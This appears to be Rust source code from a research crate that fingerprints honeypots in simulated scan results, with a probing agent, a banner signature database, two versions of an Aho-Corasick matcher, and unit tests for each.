    }

    /// Sort detections and rejections into a canonical order, so a merged
    /// report is independent of the order its parts arrived in.
    pub fn normalize(&mut self) {
        self.detections.sort_by_key(|d| (d.addr, d.port));
        self.rejected.sort_unstable();
    }
}

/// Passive stage: candidates from scan results whose raw banner matches a
/// signature.
pub fn passive_candidates(
    db: &SignatureDb,
    results: &ScanResults,
) -> Vec<(Ipv4Addr, u16, WildHoneypot)> {
    let candidates: Vec<_> = results
        .records
        .values()
        .filter_map(|r| {
            db.match_banner(&r.raw)
                .map(|family| (r.addr, r.port, family))
        })
        .collect();
    for &(_, _, family) in &candidates {
        ofh_obs::count_l("fingerprint.passive.candidate", family.name(), 1);
    }
    candidates
}

#[derive(Debug)]
struct ProbeState {
    addr: Ipv4Addr,
    port: u16,
    family: WildHoneypot,
    /// Response chunks per probe round (banner, reply 1, reply 2).
    rounds: Vec<Vec<u8>>,
    sent: u8,
    /// 0 for the first connect, 1 for the single allowed retry.
    attempt: u8,
    established: bool,
}

/// The active-stage prober agent: connects to every candidate, sends two
/// junk probes, and compares responses.
pub struct FingerprintProber {
    pub report: FingerprintReport,
    queue: Vec<(Ipv4Addr, u16, WildHoneypot)>,
    states: HashMap<ConnToken, ProbeState>,
    /// Candidates whose first attempt the network cut short, parked until
    /// their retry timer fires.
    retries: HashMap<u64, (Ipv4Addr, u16, WildHoneypot)>,
    next_retry_id: u64,
    batch: usize,
    outstanding: usize,
}

const JUNK_PROBE: &[u8] = b"zxcv-fingerprint-probe\n";
const ROUND_GAP: SimDuration = SimDuration::from_millis(1_200);
const TICK: u64 = u64::MAX; // timer token for the dispatch tick
const RETRY_BIT: u64 = 1 << 62; // retry timer tokens (conn ids stay far below)
const RETRY_DELAY: SimDuration = SimDuration::from_millis(2_000);

impl FingerprintProber {
    pub fn new(candidates: Vec<(Ipv4Addr, u16, WildHoneypot)>) -> FingerprintProber {
        FingerprintProber {
            report: FingerprintReport::default(),
            queue: candidates,
            states: HashMap::new(),
            retries: HashMap::new(),
            next_retry_id: 0,
            batch: 512,
            outstanding: 0,
        }
    }

    /// Probe states plus parked retries — zero once the run has drained.
    pub fn leaked_state(&self) -> u64 {
        (self.states.len() + self.retries.len()) as u64
    }

    /// Conservative end-time estimate for `n` candidates.
    pub fn estimated_duration(n: usize) -> SimDuration {
        let rounds = (n / 512 + 2) as u64;
        SimDuration::from_millis(rounds * 1_000) + ROUND_GAP.mul(4) + SimDuration::from_secs(30)
    }

    fn dispatch(&mut self, ctx: &mut NetCtx<'_>) {
        while self.outstanding < self.batch {
            let Some((addr, port, family)) = self.queue.pop() else {
                return;
            };
            self.connect(ctx, addr, port, family, 0);
        }
    }

    fn connect(
        &mut self,
        ctx: &mut NetCtx<'_>,
        addr: Ipv4Addr,
        port: u16,
        family: WildHoneypot,
        attempt: u8,
    ) {
        let conn = ctx.tcp_connect(SockAddr::new(addr, port));
        self.states.insert(
            conn,
            ProbeState {
                addr,
                port,
                family,
                rounds: vec![Vec::new()],
                sent: 0,
                attempt,
                established: false,
            },
        );
        self.outstanding += 1;
    }

    /// A connect or in-flight probe failed. First attempts get one retry
    /// after a short deterministic backoff (staggered per candidate so a
    /// burst of failures doesn't reconnect as a thundering herd); a failed
    /// retry concludes with whatever rounds were gathered.
    fn probe_failed(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        let attempt = match self.states.get(&conn) {
            Some(st) => st.attempt,
            None => return,
        };
        if attempt > 0 {
            self.conclude(ctx.now(), conn);
            return;
        }
        let st = self.states.remove(&conn).expect("state checked above");
        self.outstanding = self.outstanding.saturating_sub(1);
        let id = self.next_retry_id;
        self.next_retry_id += 1;
        self.retries.insert(id, (st.addr, st.port, st.family));
        let stagger = SimDuration::from_millis(id.wrapping_mul(137) % 700);
        ctx.set_timer(RETRY_DELAY + stagger, RETRY_BIT | id);
    }

    fn conclude(&mut self, now: ofh_net::SimTime, conn: ConnToken) {
        let Some(st) = self.states.remove(&conn) else {
            return;
        };
        self.outstanding = self.outstanding.saturating_sub(1);
        if st.attempt > 0 && st.established {
            self.report.retries_recovered += 1;
        }
        // Verdict: both junk probes answered, answers identical, and the
        // static banner (with the signature) keeps being replayed.
        let confirmed = st.rounds.len() >= 3
            && !st.rounds[1].is_empty()
            && st.rounds[1] == st.rounds[2]
            && !st.rounds[1]
                .windows(JUNK_PROBE.len() - 1)
                .any(|w| w == &JUNK_PROBE[..JUNK_PROBE.len() - 1]);
        let verdict = if confirmed { "fingerprint.detected" } else { "fingerprint.rejected" };
        ofh_obs::count_l(verdict, st.family.name(), 1);
        ofh_obs::span(
            "fingerprint.match",
            st.family.name(),
            now.0,
            now.0,
            0,
            u32::from(st.addr),
            st.port,
            st.rounds.iter().map(|r| r.len() as u32).sum(),
        );
        if confirmed {
            self.report.detections.push(Detection {
                addr: st.addr,
                port: st.port,
                family: st.family,
            });
        } else {
            self.report.rejected.push((st.addr, st.port));
        }
    }
}

impl Agent for FingerprintProber {
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        ctx.set_timer(SimDuration::from_millis(10), TICK);
    }

    fn on_timer(&mut self, ctx: &mut NetCtx<'_>, token: u64) {
        if token == TICK {
            self.dispatch(ctx);
            if !self.queue.is_empty() || self.outstanding > 0 {
                ctx.set_timer(SimDuration::from_secs(1), TICK);
            }
            return;
        }
        if token & RETRY_BIT != 0 {
            let Some((addr, port, family)) = self.retries.remove(&(token & !RETRY_BIT)) else {
                return;
            };
            self.report.retries_issued += 1;
            self.connect(ctx, addr, port, family, 1);
            return;
        }
        // Per-connection round deadline.
        let conn = ConnToken(token);
        let Some(st) = self.states.get_mut(&conn) else {
            return;
        };
        if st.sent < 2 {
            st.sent += 1;
            st.rounds.push(Vec::new());
            ctx.tcp_send(conn, JUNK_PROBE.to_vec());
            ctx.set_timer(ROUND_GAP, conn.0);
        } else {
            ctx.tcp_close(conn);
            self.conclude(ctx.now(), conn);
        }
    }

    fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        if let Some(st) = self.states.get_mut(&conn) {
            st.established = true;
            ctx.set_timer(ROUND_GAP, conn.0);
        }
    }

    fn on_tcp_data(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        if let Some(st) = self.states.get_mut(&conn) {
            st.rounds.last_mut().expect("round open").extend_from_slice(data);
        }
    }

    fn on_tcp_refused(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.probe_failed(ctx, conn);
    }

    fn on_tcp_timeout(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.probe_failed(ctx, conn);
    }

    fn on_tcp_reset(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.probe_failed(ctx, conn);
    }

    fn on_tcp_closed(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.conclude(ctx.now(), conn);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_devices::endpoints::TelnetDevice;
    use ofh_devices::Misconfig;
    use ofh_honeypots::WildHoneypotAgent;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    /// A malicious "real device" whose banner *contains* the Anglerfish
    /// signature but which otherwise behaves like a shell — the active stage
    /// must reject it.
    fn impostor() -> TelnetDevice {
        TelnetDevice::new("[root@LocalHost tmp]$ fake", Some(Misconfig::TelnetNoAuth), 23)
    }

    #[test]
    fn passive_then_active_distinguishes() {
        let mut net = SimNet::new(SimNetConfig::default());
        // A true wild Cowrie, a true Anglerfish, and an impostor device.
        net.attach(ip(16, 20, 0, 1), Box::new(WildHoneypotAgent::new(WildHoneypot::Cowrie)));
        net.attach(
            ip(16, 20, 0, 2),
            Box::new(WildHoneypotAgent::new(WildHoneypot::Anglerfish)),
        );
        net.attach(ip(16, 20, 0, 3), Box::new(impostor()));

        let candidates = vec![
            (ip(16, 20, 0, 1), 23, WildHoneypot::Cowrie),
            (ip(16, 20, 0, 2), 23, WildHoneypot::Anglerfish),
            (ip(16, 20, 0, 3), 23, WildHoneypot::Anglerfish), // passive hit
        ];
        let pid = net.attach(
            ip(16, 3, 0, 9),
            Box::new(FingerprintProber::new(candidates)),
        );
        net.run_until(SimTime::ZERO + FingerprintProber::estimated_duration(3));
        let report = &net.agent_downcast::<FingerprintProber>(pid).unwrap().report;
        let counts = report.counts();
        assert_eq!(counts.get(&WildHoneypot::Cowrie), Some(&1));
        assert_eq!(counts.get(&WildHoneypot::Anglerfish), Some(&1));
        assert_eq!(report.total(), 2);
        assert!(report.rejected.contains(&(ip(16, 20, 0, 3), 23)));
        assert!(report.filter_set().contains(&ip(16, 20, 0, 1)));
        assert!(!report.filter_set().contains(&ip(16, 20, 0, 3)));
    }

    #[test]
    fn outage_cut_recheck_recovers_on_retry() {
        use ofh_net::{FaultPhase, FaultPlan, FaultSchedule};
        // A total blackout covers the first connect attempt (the SYN dies,
        // the 3 s connect timeout fires inside the window); the single retry
        // lands after the outage lifts and completes the re-check.
        let mut net = SimNet::new(SimNetConfig {
            faults: FaultSchedule {
                phases: vec![FaultPhase {
                    name: "boot-outage".into(),
                    from_ms: Some(0),
                    to_ms: Some(4_000),
                    plan: FaultPlan {
                        drop_chance: 1.0,
                        ..FaultPlan::NONE
                    },
                    ..FaultPhase::default()
                }],
            },
            ..SimNetConfig::default()
        });
        net.attach(ip(16, 20, 0, 1), Box::new(WildHoneypotAgent::new(WildHoneypot::Cowrie)));
        let pid = net.attach(
            ip(16, 3, 0, 9),
            Box::new(FingerprintProber::new(vec![(
                ip(16, 20, 0, 1),
                23,
                WildHoneypot::Cowrie,
            )])),
        );
        net.run_until(SimTime::ZERO + FingerprintProber::estimated_duration(1));
        let prober = net.agent_downcast::<FingerprintProber>(pid).unwrap();
        assert_eq!(prober.report.total(), 1, "retry should complete the re-check");
        assert_eq!(prober.report.retries_issued, 1);
        assert_eq!(prober.report.retries_recovered, 1);
        assert_eq!(prober.leaked_state(), 0);
    }

    #[test]
    fn vanished_candidates_are_rejected_not_detected() {
        let mut net = SimNet::new(SimNetConfig::default());
        let candidates = vec![(ip(16, 20, 0, 99), 23, WildHoneypot::Kako)];
        let pid = net.attach(
            ip(16, 3, 0, 9),
            Box::new(FingerprintProber::new(candidates)),
        );
        net.run_until(SimTime::ZERO + FingerprintProber::estimated_duration(1));
        let report = &net.agent_downcast::<FingerprintProber>(pid).unwrap().report;
        assert_eq!(report.total(), 0);
        assert_eq!(report.rejected.len(), 1);
    }
}
