//! The honeypot signature database — Table 6 as matchable patterns.

use ofh_honeypots::WildHoneypot;

use crate::matcher::AhoCorasick;

/// The signature database: one pattern per wild-honeypot family, compiled
/// into a single automaton.
#[derive(Debug, Clone)]
pub struct SignatureDb {
    families: Vec<WildHoneypot>,
    automaton: AhoCorasick,
    patterns: Vec<Vec<u8>>,
}

impl Default for SignatureDb {
    fn default() -> Self {
        Self::new()
    }
}

impl SignatureDb {
    /// Build from the Table 6 signature set.
    pub fn new() -> SignatureDb {
        let families: Vec<WildHoneypot> = WildHoneypot::ALL.to_vec();
        let patterns: Vec<Vec<u8>> = families.iter().map(|f| f.signature().to_vec()).collect();
        let automaton = AhoCorasick::new(&patterns);
        SignatureDb {
            families,
            automaton,
            patterns,
        }
    }

    /// The family whose signature occurs in `banner`, if any. When multiple
    /// match (signatures are designed disjoint, but banners are attacker
    /// controlled), the longest pattern wins.
    pub fn match_banner(&self, banner: &[u8]) -> Option<WildHoneypot> {
        let hits = self.automaton.find_all(banner);
        ofh_obs::count("fingerprint.ac.banners_scanned", 1);
        ofh_obs::count("fingerprint.ac.bytes_scanned", banner.len() as u64);
        if !hits.is_empty() {
            ofh_obs::count("fingerprint.ac.matches", hits.len() as u64);
        }
        hits.into_iter()
            .max_by_key(|&i| self.patterns[i as usize].len())
            .map(|i| self.families[i as usize])
    }

    /// Naive per-pattern matching (ablation oracle).
    pub fn match_banner_naive(&self, banner: &[u8]) -> Option<WildHoneypot> {
        crate::matcher::naive_find_all(&self.patterns, banner)
            .into_iter()
            .max_by_key(|&i| self.patterns[i as usize].len())
            .map(|i| self.families[i as usize])
    }

    pub fn families(&self) -> &[WildHoneypot] {
        &self.families
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_family_signature_matches_itself() {
        let db = SignatureDb::new();
        for f in WildHoneypot::ALL {
            let mut banner = f.signature().to_vec();
            banner.extend_from_slice(b"\r\n$ ");
            assert_eq!(db.match_banner(&banner), Some(f), "{f}");
        }
    }

    #[test]
    fn real_device_banners_do_not_match() {
        let db = SignatureDb::new();
        // Device banners from Table 11 + the generic forms the population
        // builder emits. None may fire a signature (zero false positives).
        let banners: Vec<Vec<u8>> = vec![
            b"\xff\xfb\x01\xff\xfb\x03PK5001Z login:\r\nlogin: ".to_vec(),
            b"\xff\xfb\x01\xff\xfb\x03192.168.0.64 login:\r\nroot@device:~$ ".to_vec(),
            b"\xff\xfb\x01\xff\xfb\x03BusyBox v1.31.0 (2020-01-01)\r\n$ ".to_vec(),
            b"SSH-2.0-dropbear_2019.78\r\n".to_vec(),
            b"Welcome to DCS-6620\r\nlogin: ".to_vec(),
        ];
        for b in banners {
            assert_eq!(db.match_banner(&b), None, "false positive on {b:?}");
        }
    }

    #[test]
    fn automaton_agrees_with_naive() {
        let db = SignatureDb::new();
        for f in WildHoneypot::ALL {
            let mut banner = b"prefix ".to_vec();
            banner.extend_from_slice(f.signature());
            assert_eq!(db.match_banner(&banner), db.match_banner_naive(&banner));
        }
        assert_eq!(db.match_banner(b"junk"), db.match_banner_naive(b"junk"));
    }
}
