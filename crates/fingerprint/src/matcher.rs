//! Multi-pattern byte matching.
//!
//! The passive fingerprint stage searches every collected banner for every
//! known honeypot signature. With ~14M banners × 9 signatures in the paper's
//! dataset, per-banner cost matters; an Aho-Corasick automaton finds all
//! patterns in one pass. A naive per-pattern scan is retained for the
//! `banner_match` ablation benchmark and as a differential-testing oracle.

use std::collections::HashMap;

/// An Aho-Corasick automaton over byte patterns.
#[derive(Debug, Clone)]
pub struct AhoCorasick {
    /// goto function: per node, byte -> next node.
    goto_fn: Vec<HashMap<u8, u32>>,
    /// failure links.
    fail: Vec<u32>,
    /// pattern indices that end at each node.
    output: Vec<Vec<u32>>,
    pattern_count: usize,
}

impl AhoCorasick {
    /// Build the automaton. Empty patterns are rejected.
    pub fn new<P: AsRef<[u8]>>(patterns: &[P]) -> AhoCorasick {
        assert!(
            patterns.iter().all(|p| !p.as_ref().is_empty()),
            "empty patterns are not allowed"
        );
        let mut goto_fn: Vec<HashMap<u8, u32>> = vec![HashMap::new()];
        let mut output: Vec<Vec<u32>> = vec![Vec::new()];
        for (idx, pat) in patterns.iter().enumerate() {
            let mut node = 0u32;
            for &b in pat.as_ref() {
                let next = match goto_fn[node as usize].get(&b) {
                    Some(&n) => n,
                    None => {
                        let n = goto_fn.len() as u32;
                        goto_fn.push(HashMap::new());
                        output.push(Vec::new());
                        goto_fn[node as usize].insert(b, n);
                        n
                    }
                };
                node = next;
            }
            output[node as usize].push(idx as u32);
        }
        // BFS for failure links.
        let mut fail = vec![0u32; goto_fn.len()];
        let mut queue: std::collections::VecDeque<u32> = goto_fn[0].values().copied().collect();
        while let Some(node) = queue.pop_front() {
            let transitions: Vec<(u8, u32)> =
                goto_fn[node as usize].iter().map(|(&b, &n)| (b, n)).collect();
            for (b, next) in transitions {
                queue.push_back(next);
                let mut f = fail[node as usize];
                loop {
                    if let Some(&g) = goto_fn[f as usize].get(&b) {
                        if g != next {
                            fail[next as usize] = g;
                        }
                        break;
                    }
                    if f == 0 {
                        break;
                    }
                    f = fail[f as usize];
                }
                let f_out = output[fail[next as usize] as usize].clone();
                output[next as usize].extend(f_out);
            }
        }
        AhoCorasick {
            goto_fn,
            fail,
            output,
            pattern_count: patterns.len(),
        }
    }

    /// Indices of all patterns occurring in `haystack` (deduplicated,
    /// sorted).
    pub fn find_all(&self, haystack: &[u8]) -> Vec<u32> {
        let mut hits = Vec::new();
        let mut node = 0u32;
        for &b in haystack {
            loop {
                if let Some(&next) = self.goto_fn[node as usize].get(&b) {
                    node = next;
                    break;
                }
                if node == 0 {
                    break;
                }
                node = self.fail[node as usize];
            }
            hits.extend_from_slice(&self.output[node as usize]);
        }
        hits.sort_unstable();
        hits.dedup();
        hits
    }

    /// Index of the first pattern present, if any.
    pub fn find_first(&self, haystack: &[u8]) -> Option<u32> {
        self.find_all(haystack).into_iter().next()
    }

    pub fn pattern_count(&self) -> usize {
        self.pattern_count
    }
}

/// Naive multi-pattern scan (ablation oracle).
pub fn naive_find_all<P: AsRef<[u8]>>(patterns: &[P], haystack: &[u8]) -> Vec<u32> {
    let mut hits = Vec::new();
    for (i, p) in patterns.iter().enumerate() {
        let p = p.as_ref();
        if !p.is_empty() && haystack.windows(p.len()).any(|w| w == p) {
            hits.push(i as u32);
        }
    }
    hits
}

/// Match-throughput counters for benchmarking.
#[derive(Debug, Clone, Copy, Default)]
pub struct MatcherStats {
    pub banners_scanned: u64,
    pub matches: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_multiple_patterns() {
        let ac = AhoCorasick::new(&[b"he".as_slice(), b"she", b"his", b"hers"]);
        assert_eq!(ac.find_all(b"ushers"), vec![0, 1, 3]);
        assert_eq!(ac.find_all(b"nothing"), Vec::<u32>::new());
        assert_eq!(ac.find_first(b"his house"), Some(2)); // only "his" occurs
    }

    #[test]
    fn overlapping_and_nested_patterns() {
        let ac = AhoCorasick::new(&[b"abc".as_slice(), b"bc", b"c"]);
        assert_eq!(ac.find_all(b"abc"), vec![0, 1, 2]);
        assert_eq!(ac.find_all(b"zc"), vec![2]);
    }

    #[test]
    fn binary_patterns() {
        let cowrie = b"\xff\xfd\x1flogin:";
        let ac = AhoCorasick::new(&[cowrie.as_slice()]);
        let banner = b"\xff\xfd\x1flogin: \r\n$ ";
        assert_eq!(ac.find_all(banner), vec![0]);
        assert!(ac.find_all(b"\xff\xfb\x01login: ").is_empty());
    }

    #[test]
    fn agrees_with_naive() {
        let patterns: Vec<&[u8]> = vec![b"login:", b"\xff\xfd\x1f", b"BusyBox", b"$"];
        let ac = AhoCorasick::new(&patterns);
        for haystack in [
            b"BusyBox v1.19.3 login: $ ".as_slice(),
            b"\xff\xfd\x1f",
            b"",
            b"no match here!",
            b"$$$$",
        ] {
            assert_eq!(
                ac.find_all(haystack),
                naive_find_all(&patterns, haystack),
                "haystack {haystack:?}"
            );
        }
    }

    #[test]
    #[should_panic(expected = "empty patterns")]
    fn rejects_empty_pattern() {
        AhoCorasick::new(&[b"".as_slice()]);
    }
}
