//! Multi-pattern byte matching.
//!
//! The passive fingerprint stage searches every collected banner for every
//! known honeypot signature. With ~14M banners × 9 signatures in the paper's
//! dataset, per-banner cost matters; an Aho-Corasick automaton finds all
//! patterns in one pass.
//!
//! Two implementation details matter at this scale:
//!
//! * **Dense transition rows.** [`AhoCorasick`] precomputes the full
//!   goto-with-failure function into one `[u32; 256]` row per trie node
//!   (a DFA), so the scan loop is a single indexed load per input byte —
//!   no hashing, no failure-link walk. The hashmap-goto variant is kept as
//!   [`SparseAhoCorasick`] for the ablation benchmark.
//! * **Output links instead of merged output lists.** Copying each node's
//!   failure-target output list into the node (the textbook shortcut) is
//!   quadratic for repeated-prefix pattern sets (`a`, `aa`, `aaa`, …).
//!   Instead every node stores only the patterns ending exactly there plus
//!   a link to the nearest proper-suffix node with output; match emission
//!   walks that chain, whose cost is proportional to actual matches.
//!
//! A naive per-pattern scan is retained for the `banner_match` ablation
//! benchmark and as a differential-testing oracle.

use std::collections::{HashMap, VecDeque};

/// Trie + failure/output links shared by both automaton representations.
struct Links {
    goto_fn: Vec<HashMap<u8, u32>>,
    fail: Vec<u32>,
    /// Patterns ending exactly at each node (no failure-closure merging).
    ends: Vec<Vec<u32>>,
    /// Nearest proper-suffix node with output (0 = none; the root never has
    /// output, so it doubles as the chain terminator).
    olink: Vec<u32>,
    /// Breadth-first node order (root first); parents precede children.
    bfs: Vec<u32>,
}

fn build_links<P: AsRef<[u8]>>(patterns: &[P]) -> Links {
    assert!(
        patterns.iter().all(|p| !p.as_ref().is_empty()),
        "empty patterns are not allowed"
    );
    let mut goto_fn: Vec<HashMap<u8, u32>> = vec![HashMap::new()];
    let mut ends: Vec<Vec<u32>> = vec![Vec::new()];
    for (idx, pat) in patterns.iter().enumerate() {
        let mut node = 0u32;
        for &b in pat.as_ref() {
            let next = match goto_fn[node as usize].get(&b) {
                Some(&n) => n,
                None => {
                    let n = goto_fn.len() as u32;
                    goto_fn.push(HashMap::new());
                    ends.push(Vec::new());
                    goto_fn[node as usize].insert(b, n);
                    n
                }
            };
            node = next;
        }
        ends[node as usize].push(idx as u32);
    }
    // BFS for failure links; olink derives from the (already final) failure
    // target because BFS visits shallower nodes first.
    let mut fail = vec![0u32; goto_fn.len()];
    let mut olink = vec![0u32; goto_fn.len()];
    let mut bfs: Vec<u32> = vec![0];
    let mut queue: VecDeque<u32> = VecDeque::new();
    for &child in goto_fn[0].values() {
        queue.push_back(child);
    }
    while let Some(node) = queue.pop_front() {
        bfs.push(node);
        let f = fail[node as usize];
        olink[node as usize] = if ends[f as usize].is_empty() {
            olink[f as usize]
        } else {
            f
        };
        let transitions: Vec<(u8, u32)> =
            goto_fn[node as usize].iter().map(|(&b, &n)| (b, n)).collect();
        for (b, next) in transitions {
            queue.push_back(next);
            let mut f = fail[node as usize];
            loop {
                if let Some(&g) = goto_fn[f as usize].get(&b) {
                    if g != next {
                        fail[next as usize] = g;
                    }
                    break;
                }
                if f == 0 {
                    break;
                }
                f = fail[f as usize];
            }
        }
    }
    Links {
        goto_fn,
        fail,
        ends,
        olink,
        bfs,
    }
}

/// Emit all patterns matched at `node` by walking the output-link chain.
#[inline]
fn emit(ends: &[Vec<u32>], olink: &[u32], first: u32, hits: &mut Vec<u32>) {
    let mut n = first;
    while n != 0 {
        hits.extend_from_slice(&ends[n as usize]);
        n = olink[n as usize];
    }
}

/// An Aho-Corasick automaton with dense precomputed transitions: one
/// `[u32; 256]` row per node, a single indexed load per scanned byte.
#[derive(Debug, Clone)]
pub struct AhoCorasick {
    /// Flattened DFA rows: `next[node * 256 + byte]` is the full
    /// goto-with-failure transition.
    next: Vec<u32>,
    /// Patterns ending exactly at each node.
    ends: Vec<Vec<u32>>,
    /// Nearest suffix node with output, per node (0 = none).
    olink: Vec<u32>,
    /// First node of the output chain to emit when standing on a node:
    /// the node itself if it has output, else its olink. One load decides
    /// whether the (rare) emission loop runs at all.
    out_head: Vec<u32>,
    pattern_count: usize,
}

impl AhoCorasick {
    /// Build the automaton. Empty patterns are rejected.
    pub fn new<P: AsRef<[u8]>>(patterns: &[P]) -> AhoCorasick {
        let links = build_links(patterns);
        let n = links.goto_fn.len();
        let mut next = vec![0u32; n * 256];
        // BFS order guarantees `fail[node]`'s row is complete before
        // `node`'s row is derived from it.
        for &node in &links.bfs {
            let base = node as usize * 256;
            if node == 0 {
                for (&b, &child) in &links.goto_fn[0] {
                    next[b as usize] = child;
                }
            } else {
                let fbase = links.fail[node as usize] as usize * 256;
                for b in 0..256 {
                    next[base + b] = match links.goto_fn[node as usize].get(&(b as u8)) {
                        Some(&child) => child,
                        None => next[fbase + b],
                    };
                }
            }
        }
        let out_head = (0..n as u32)
            .map(|i| {
                if links.ends[i as usize].is_empty() {
                    links.olink[i as usize]
                } else {
                    i
                }
            })
            .collect();
        AhoCorasick {
            next,
            ends: links.ends,
            olink: links.olink,
            out_head,
            pattern_count: patterns.len(),
        }
    }

    /// Indices of all patterns occurring in `haystack` (deduplicated,
    /// sorted).
    pub fn find_all(&self, haystack: &[u8]) -> Vec<u32> {
        let mut hits = Vec::new();
        let mut node = 0u32;
        for &b in haystack {
            node = self.next[node as usize * 256 + b as usize];
            let head = self.out_head[node as usize];
            if head != 0 {
                emit(&self.ends, &self.olink, head, &mut hits);
            }
        }
        hits.sort_unstable();
        hits.dedup();
        hits
    }

    /// Index of the first pattern present, if any.
    pub fn find_first(&self, haystack: &[u8]) -> Option<u32> {
        self.find_all(haystack).into_iter().next()
    }

    pub fn pattern_count(&self) -> usize {
        self.pattern_count
    }
}

/// The hashmap-goto Aho-Corasick variant: same links, but transitions
/// resolve through per-node `HashMap<u8, u32>` lookups with an explicit
/// failure-link walk. Kept for the `banner_match` ablation benchmark
/// (dense vs hashmap vs naive); production code uses [`AhoCorasick`].
#[derive(Debug, Clone)]
pub struct SparseAhoCorasick {
    goto_fn: Vec<HashMap<u8, u32>>,
    fail: Vec<u32>,
    ends: Vec<Vec<u32>>,
    olink: Vec<u32>,
    pattern_count: usize,
}

impl SparseAhoCorasick {
    /// Build the automaton. Empty patterns are rejected.
    pub fn new<P: AsRef<[u8]>>(patterns: &[P]) -> SparseAhoCorasick {
        let links = build_links(patterns);
        SparseAhoCorasick {
            goto_fn: links.goto_fn,
            fail: links.fail,
            ends: links.ends,
            olink: links.olink,
            pattern_count: patterns.len(),
        }
    }

    /// Indices of all patterns occurring in `haystack` (deduplicated,
    /// sorted).
    pub fn find_all(&self, haystack: &[u8]) -> Vec<u32> {
        let mut hits = Vec::new();
        let mut node = 0u32;
        for &b in haystack {
            loop {
                if let Some(&next) = self.goto_fn[node as usize].get(&b) {
                    node = next;
                    break;
                }
                if node == 0 {
                    break;
                }
                node = self.fail[node as usize];
            }
            if !self.ends[node as usize].is_empty() {
                hits.extend_from_slice(&self.ends[node as usize]);
            }
            emit(&self.ends, &self.olink, self.olink[node as usize], &mut hits);
        }
        hits.sort_unstable();
        hits.dedup();
        hits
    }

    pub fn pattern_count(&self) -> usize {
        self.pattern_count
    }
}

/// Naive multi-pattern scan (ablation oracle).
pub fn naive_find_all<P: AsRef<[u8]>>(patterns: &[P], haystack: &[u8]) -> Vec<u32> {
    let mut hits = Vec::new();
    for (i, p) in patterns.iter().enumerate() {
        let p = p.as_ref();
        if !p.is_empty() && haystack.windows(p.len()).any(|w| w == p) {
            hits.push(i as u32);
        }
    }
    hits
}

/// Match-throughput counters for benchmarking.
#[derive(Debug, Clone, Copy, Default)]
pub struct MatcherStats {
    pub banners_scanned: u64,
    pub matches: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_multiple_patterns() {
        let ac = AhoCorasick::new(&[b"he".as_slice(), b"she", b"his", b"hers"]);
        assert_eq!(ac.find_all(b"ushers"), vec![0, 1, 3]);
        assert_eq!(ac.find_all(b"nothing"), Vec::<u32>::new());
        assert_eq!(ac.find_first(b"his house"), Some(2)); // only "his" occurs
    }

    #[test]
    fn overlapping_and_nested_patterns() {
        let ac = AhoCorasick::new(&[b"abc".as_slice(), b"bc", b"c"]);
        assert_eq!(ac.find_all(b"abc"), vec![0, 1, 2]);
        assert_eq!(ac.find_all(b"zc"), vec![2]);
    }

    #[test]
    fn binary_patterns() {
        let cowrie = b"\xff\xfd\x1flogin:";
        let ac = AhoCorasick::new(&[cowrie.as_slice()]);
        let banner = b"\xff\xfd\x1flogin: \r\n$ ";
        assert_eq!(ac.find_all(banner), vec![0]);
        assert!(ac.find_all(b"\xff\xfb\x01login: ").is_empty());
    }

    #[test]
    fn agrees_with_naive() {
        let patterns: Vec<&[u8]> = vec![b"login:", b"\xff\xfd\x1f", b"BusyBox", b"$"];
        let ac = AhoCorasick::new(&patterns);
        let sparse = SparseAhoCorasick::new(&patterns);
        for haystack in [
            b"BusyBox v1.19.3 login: $ ".as_slice(),
            b"\xff\xfd\x1f",
            b"",
            b"no match here!",
            b"$$$$",
        ] {
            let expect = naive_find_all(&patterns, haystack);
            assert_eq!(ac.find_all(haystack), expect, "dense, haystack {haystack:?}");
            assert_eq!(
                sparse.find_all(haystack),
                expect,
                "sparse, haystack {haystack:?}"
            );
        }
    }

    #[test]
    fn suffix_patterns_emit_through_output_links() {
        // "hers" ending also matches "ers"? No — patterns here are chosen so
        // matches surface only via the olink chain: standing on the node for
        // "xab", both "ab" and "b" must be reported.
        let patterns: Vec<&[u8]> = vec![b"xab", b"ab", b"b"];
        let ac = AhoCorasick::new(&patterns);
        assert_eq!(ac.find_all(b"xab"), vec![0, 1, 2]);
        assert_eq!(ac.find_all(b"zab"), vec![1, 2]);
        assert_eq!(ac.find_all(b"b"), vec![2]);
    }

    #[test]
    fn pathological_repeated_prefixes_build_quickly() {
        // 600 patterns "a", "aa", ..., "a"*600: the old merged-output-list
        // construction copied O(k²) ≈ 180k pattern ids while linking; the
        // output-link chain stores each exactly once. The assertion is on
        // total stored ids (structure), the wall-clock win follows from it.
        let patterns: Vec<Vec<u8>> = (1..=600).map(|k| vec![b'a'; k]).collect();
        let ac = AhoCorasick::new(&patterns);
        let stored: usize = ac.ends.iter().map(|e| e.len()).sum();
        assert_eq!(stored, patterns.len(), "each pattern id stored exactly once");
        // Matching the longest haystack still reports every pattern.
        let all = ac.find_all(&vec![b'a'; 600]);
        assert_eq!(all.len(), 600);
        // And a haystack of length k reports exactly the k shortest.
        assert_eq!(ac.find_all(&vec![b'a'; 3]), vec![0, 1, 2]);
    }

    #[test]
    #[should_panic(expected = "empty patterns")]
    fn rejects_empty_pattern() {
        AhoCorasick::new(&[b"".as_slice()]);
    }
}
