//! # ofh-fingerprint — honeypot fingerprinting
//!
//! Implements §3.2: detect honeypots among scan results so they can be
//! filtered from the misconfigured-device dataset (8,192 filtered in the
//! paper, Table 6). The approach follows the authors' multistage framework
//! (Srinivasa et al.) and the banner techniques of Morishita et al. and
//! Vetterl et al.:
//!
//! 1. **Passive stage** ([`signatures`], [`matcher`]) — match the raw
//!    banners already collected by the scan against the static signatures
//!    each honeypot family ships with. Matching uses a multi-pattern
//!    Aho-Corasick automaton (the `banner_match` ablation bench compares it
//!    with the naive scan).
